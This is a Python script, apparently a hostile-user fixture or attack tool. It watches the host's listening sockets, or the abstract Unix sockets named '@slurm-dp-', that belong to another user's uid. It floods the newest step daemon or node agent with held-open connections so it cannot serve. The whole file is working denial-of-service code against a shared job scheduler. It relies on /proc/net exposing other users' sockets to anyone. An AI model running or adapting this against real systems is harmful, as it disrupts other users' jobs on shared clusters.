# Another user's flood of every new step daemon's port: watches the host's
# listening sockets of one uid (as /proc/net/tcp shows them to anyone) and
# opens connections to the newest as fast as it can, keeping the last 400
# open and never saying hello. Usage: flood.py UID ADDR LOG
# With ADDR "agent" it floods the newest node agent's abstract socket instead
# (/proc/net/unix lists every abstract name of the namespace to anyone);
# with "keepers", the newest agent's socket for its task keepers (a step
# that restarts in place).
import collections, errno, os, socket, sys, time

uid, addr, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
agents = addr in ("agent", "keepers")
suffix = ".keepers" if addr == "keepers" else ""
hexaddr = "" if agents else "".join("%02X" % int(b) for b in reversed(addr.split(".")))

def listening_ports():
    ports = []
    with open("/proc/1/net/tcp") as f:  # the host's, also from a node's namespace
        for line in f.readlines()[1:]:
            w = line.split()
            local, state, owner = w[1], w[3], int(w[7])
            a, p = local.split(":")
            if state == "0A" and owner == uid and a == hexaddr:
                ports.append((int(w[9]), int(p, 16)))  # (inode, port): newest last
    return [p for _, p in sorted(ports)]

def listening_agents():
    names = []
    with open("/proc/self/net/unix") as f:  # this namespace's
        for line in f.readlines()[1:]:
            w = line.split()
            # Flags 00010000: a listening socket.
            if (len(w) >= 8 and w[3] == "00010000" and w[7].startswith("@slurm-dp-")
                    and w[7].endswith(suffix)):
                names.append((int(w[6]), w[7]))
    return [n for _, n in sorted(names)]

def open_one(target):
    if agents:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.setblocking(False)
        return s, s.connect_ex("\0" + target[1:])
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    return s, s.connect_ex((addr, target))

listening = listening_agents if agents else listening_ports
held = collections.deque()
counts = collections.Counter()
seen = set()
target = None
last_scan = 0.0
last_log = 0.0
while True:
    now = time.monotonic()
    if now - last_scan > 0.01:
        last_scan = now
        found = listening()
        new = [t for t in found if t not in seen]
        if new:
            target = new[-1]
            seen.update(new)
    if now - last_log > 0.2:
        last_log = now
        with open(log + ".tmp", "w") as f:
            for t, n in counts.items():
                f.write("target %s connections %d\n" % (t, n))
        os.replace(log + ".tmp", log)
    if target is None:
        time.sleep(0.005)
        continue
    for _ in range(20):
        s, rc = open_one(target)
        if rc in (0, errno.EINPROGRESS):
            counts[target] += 1
            held.append(s)
        else:
            s.close()
        while len(held) > 400:
            held.popleft().close()
